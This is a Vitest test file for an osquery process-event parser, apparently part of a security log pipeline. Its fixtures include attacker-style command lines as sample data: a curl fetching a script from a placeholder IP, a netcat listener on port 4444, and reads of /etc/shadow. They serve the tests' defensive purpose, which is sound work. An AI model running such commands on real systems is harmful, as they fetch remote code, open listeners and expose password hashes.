import { describe, expect, it } from 'vitest';
import { createOsqueryParser } from '../../../src/sources/parsers/osquery.js';
import { baseOptions, run } from './parser-harness.js';

const names: Record<number, string> = { 0: 'root', 1000: 'alice' };
const parser = () =>
  createOsqueryParser({ ...baseOptions, resolveUid: (uid) => names[uid] ?? null });

const row = {
  pid: '31337',
  path: '/usr/bin/curl',
  cmdline: 'curl -s http://203.0.113.9/x.sh',
  cwd: '/tmp',
  auid: '1000',
  uid: '0',
  euid: '0',
  gid: '0',
  egid: '0',
  parent: '31300',
  time: '1795530208',
  uptime: '86400',
  syscall: 'execve',
  env_count: '12',
  overflows: '',
};

const eventLine = {
  name: 'process_events',
  hostIdentifier: 'web-1',
  calendarTime: 'Tue Nov 24 14:23:30 2026 UTC',
  unixTime: 1795530210,
  epoch: 0,
  counter: 12,
  numerics: false,
  decorations: { host_uuid: '4C4C4544-0042-4310-8058-B4C04F4E3132' },
  columns: row,
  action: 'added',
};

describe('osquery parser', () => {
  it('parses a process_events row in event format', () => {
    const { events, malformed } = run(parser(), [JSON.stringify(eventLine)]);
    expect(malformed).toEqual([]);
    expect(events[0]).toMatchObject({
      time: new Date(1795530208000),
      host: 'web-1',
      user: 'alice',
      loginUid: 1000,
      runAs: 'root',
      argv: ['curl', '-s', 'http://203.0.113.9/x.sh'],
      exe: '/usr/bin/curl',
      cwd: '/tmp',
      pid: 31337,
      ppid: 31300,
      sourceFormat: 'osquery',
      extra: { osquery_query: 'process_events', uid: '0', syscall: 'execve' },
    });
    expect(events[0]!.eventKey).toMatch(/^osquery:web-1:process_events:1795530208:31337:[0-9a-f]{16}$/);
  });

  it('emits one event per added row of a batch, ignoring removed rows', () => {
    const batch = {
      name: 'process_events',
      hostname: 'db-2',
      unixTime: '1795530210',
      diffResults: {
        added: [row, { ...row, pid: '31338', cmdline: 'sh -c id', auid: '4294967295' }],
        removed: [{ ...row, pid: '1' }],
      },
    };
    const { events } = run(parser(), [JSON.stringify(batch)]);
    expect(events.map((e) => [e.host, e.pid, e.user, e.command])).toEqual([
      ['db-2', 31337, 'alice', 'curl -s http://203.0.113.9/x.sh'],
      ['db-2', 31338, null, 'sh -c id'],
    ]);
    expect(new Set(events.map((e) => e.eventKey)).size).toBe(2);
  });

  it('reads snapshot results and numeric columns, naming unknown uids by number', () => {
    const snapshot = {
      name: 'procs',
      hostIdentifier: 'web-3',
      unixTime: 1795530210,
      action: 'snapshot',
      snapshot: [{ pid: 5, path: '/usr/sbin/sshd', cmdline: '', auid: 2001, euid: 0, syscall: 'execve' }],
    };
    const { events } = run(parser(), [JSON.stringify(snapshot)]);
    expect(events[0]).toMatchObject({ argv: ['/usr/sbin/sshd'], user: '2001', time: new Date(1795530210000) });
  });

  it('refuses one unreadable row of a snapshot on its own, keeping the other rows', () => {
    const snapshot = {
      name: 'procs',
      hostIdentifier: 'web-3',
      unixTime: 1795530210,
      action: 'snapshot',
      snapshot: [{ pid: 5, cmdline: { x: 1 } }, 'not a row', { pid: 6, path: '/usr/bin/cat', cmdline: 'cat /etc/shadow', auid: 1000, syscall: 'execve' }],
    };
    const { events, malformed } = run(parser(), [JSON.stringify(snapshot)]);
    expect(events.map((event) => event.argv)).toEqual([['cat', '/etc/shadow']]);
    expect(malformed.map((item) => item.reason)).toEqual(['bad_json', 'bad_json']);
  });

  it('takes only executions: not connect or user_events rows with a path, nor a snapshot of running processes', () => {
    const row = (columns: Record<string, unknown>) => JSON.stringify({ ...eventLine, columns: { time: '1795530210', pid: '7', ...columns } });
    const lines = [
      row({ syscall: 'connect', path: '/usr/sbin/apache2', remote_address: '192.168.3.104' }),
      row({ path: '/usr/sbin/sshd', message: 'PAM: authentication' }),
      row({ syscall: 'execve', path: '/usr/bin/id', cmdline: 'id' }),
      row({ event_type: 'exec', path: '/bin/ls', cmdline: 'ls' }),
      JSON.stringify({ name: 'running', hostIdentifier: 'web-3', unixTime: 1795530210, action: 'snapshot', snapshot: [{ pid: '1', path: '/sbin/init', cmdline: '/sbin/init' }] }),
      // A processes row changed (its memory grew): osquery lists it as removed and added again.
      JSON.stringify({ name: 'procs', hostIdentifier: 'web-3', unixTime: 1795530210, diffResults: { added: [{ pid: '9', path: '/usr/bin/nc', cmdline: 'nc -lvp 4444', resident_size: '4096' }] } }),
      // process_events rows: in a snapshot written one row per line; a query that named a few
      // columns only (no syscall); a syscall written oddly.
      JSON.stringify({ name: 'execs', hostIdentifier: 'web-3', unixTime: 1795530210, action: 'snapshot', columns: { pid: '11', path: '/usr/bin/cat', cmdline: 'cat /etc/shadow', syscall: 'execve', time: '1795530210' } }),
      row({ path: '/usr/bin/whoami', cmdline: 'whoami', eid: '000123' }),
      row({ path: '/bin/ls', cmdline: 'ls -la', euid: '0', cwd: '/' }),
      row({ path: '/usr/bin/head', cmdline: 'head /etc/shadow', syscall: ' EXECVE' }),
      // processes rows named by their own columns, even without a snapshot.
      row({ path: '/usr/sbin/sshd', cmdline: 'sshd -D', start_time: '1795520000' }),
    ];
    const { events, malformed } = run(parser(), lines);
    expect(malformed).toEqual([]);
    expect(events.map((e) => e.command)).toEqual(['id', 'ls', 'cat /etc/shadow', 'whoami', 'ls -la', 'head /etc/shadow']);
  });

  it('takes argv from json_cmdline when the row has it, and says when it had to split cmdline', () => {
    const row = (columns: Record<string, unknown>) => JSON.stringify({ ...eventLine, columns: { time: '1795530210', pid: '7', syscall: 'execve', uid: '0', ...columns } });
    const lines = [row({ cmdline: 'sh -c echo hi', json_cmdline: JSON.stringify(['sh', '-c', 'echo hi']) }), row({ cmdline: 'sh -c echo hi' }), row({ cmdline: 'id' })];
    const events = run(parser(), lines).events;
    expect(events.map((e) => [e.argv, e.extra?.argv_inexact, e.runAs])).toEqual([
      [['sh', '-c', 'echo hi'], undefined, 'root'],
      [['sh', '-c', 'echo', 'hi'], 'true', 'root'],
      [['id'], undefined, 'root'],
    ]);
  });

  it('skips other query results and removed actions silently', () => {
    const lines = [
      JSON.stringify({ ...eventLine, name: 'listening_ports', columns: { port: '22', address: '0.0.0.0' } }),
      JSON.stringify({ ...eventLine, action: 'removed' }),
    ];
    expect(run(parser(), lines)).toEqual({ events: [], malformed: [] });
  });

  it('reports rows whose command, time or host cannot be read, and non-osquery objects', () => {
    const lines = [
      JSON.stringify({ ...eventLine, hostIdentifier: 7 }),
      JSON.stringify({ ...eventLine, columns: 'x' }),
      JSON.stringify({ ...eventLine, columns: { ...row, time: 'soon' }, unixTime: undefined }),
      JSON.stringify({ something: 'else' }),
      '{"name":"process_events","columns":{"cmdline":"curl',
      // An unreadable command is never taken for a row about no process.
      JSON.stringify({ ...eventLine, columns: { ...row, cmdline: ['curl'], path: { p: '/usr/bin/curl' } } }),
    ];
    const { events, malformed } = run(parser(), lines);
    expect(events).toEqual([]);
    expect(malformed.map((m) => m.reason)).toEqual(['bad_json', 'bad_json', 'bad_json', 'bad_json', 'truncated', 'bad_json']);
  });

  it('keeps a row with an optional column of the wrong type, left out, and counts it as bad_field', () => {
    const lines = [
      JSON.stringify({ ...eventLine, columns: { ...row, pid: 'abc', auid: 1.5, cwd: false } }),
      JSON.stringify({ ...eventLine, columns: { ...row, time: 'soon' } }),
    ];
    const { events, malformed } = run(parser(), lines);
    expect(events.map((e) => [e.command, e.pid, e.user, e.cwd])).toEqual([
      ['curl -s http://203.0.113.9/x.sh', null, null, null],
      ['curl -s http://203.0.113.9/x.sh', 31337, 'alice', '/tmp'],
    ]);
    expect(events[1]!.time).toEqual(new Date(eventLine.unixTime * 1000));
    expect(malformed.map((m) => [m.reason, m.detail])).toEqual([
      ['bad_field', 'kept without: pid must be an integer; auid must be an integer; cwd must be a string'],
      ['bad_field', 'kept without: time must be epoch seconds'],
    ]);
  });
});
